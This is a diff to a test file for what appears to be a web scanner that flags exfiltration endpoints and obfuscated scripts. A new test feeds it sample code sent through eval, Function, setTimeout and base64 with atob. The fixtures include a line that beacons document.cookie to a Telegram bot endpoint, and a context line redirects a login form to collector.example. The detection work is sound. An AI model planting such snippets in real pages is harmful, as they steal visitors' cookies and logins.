@@ -2,9 +2,8 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { EXCERPT_CHARS, SEVERE_RULES, excerptOf } from "@/lib/scan/findings";
 import { scanRules } from "@/lib/schemas";
 import { reportLines } from "@/lib/deploy/report-text";
-import { brandIn, parseRefresh } from "@/lib/scan/html";
+import { brandIn, MAX_NESTING, parseRefresh } from "@/lib/scan/html";
 import { DEFAULT_BRANDS, brandList, executableHeader, redirectUrls, scanFile } from "@/lib/scan/rules";
-import { MAX_NESTING } from "@/lib/scan/html";
 import { exfiltrationEndpoint, isOffsite, resolveUrl } from "@/lib/scan/urls";
 import { lookUpUris } from "@/lib/scan/web-risk";
 import { evasions } from "../support/scan-evasions";
@@ -155,6 +154,20 @@ document.forms.login.setAttribute("action", "https://collector.example/p");</scr
   it("a script cut at the byte budget: string tokens joined with + are folded", () => {
     const js = `var u = "https://api.tele" + "gram.org/bot1:x/sendMessage";\nfunction f( {`;
     expect(found("cut.js", js)).toEqual([["exfiltration-endpoint", 1]]);
+  });
+
+  it("code handed to eval, Function or setTimeout as a constant (or atob of one) is scanned as a script", () => {
+    const send = `navigator.sendBeacon("https://api.telegram.org/bot1:x/sendMessage", document.cookie)`;
+    expect(found("a.js", `var c = ${JSON.stringify(send)};\nsetTimeout(c, 10);`)).toEqual([
+      ["exfiltration-endpoint", 2],
+    ]);
+    expect(found("a.js", `new Function("d", ${JSON.stringify(send)});`)).toEqual([["exfiltration-endpoint", 1]]);
+    const packed = Buffer.from(send).toString("base64");
+    expect(found("a.js", `\n(0, eval)(atob("${packed}"));`)).toEqual([
+      ["obfuscated-script", 2],
+      ["exfiltration-endpoint", 2],
+    ]);
+    expect(found("a.js", `eval("1 + 1"); setTimeout("tick()", 100); new Function("a", "return a * 2");`)).toEqual([]);
   });
 
   it("eval.call and (0, eval) over decoded text are calls of eval", () => {
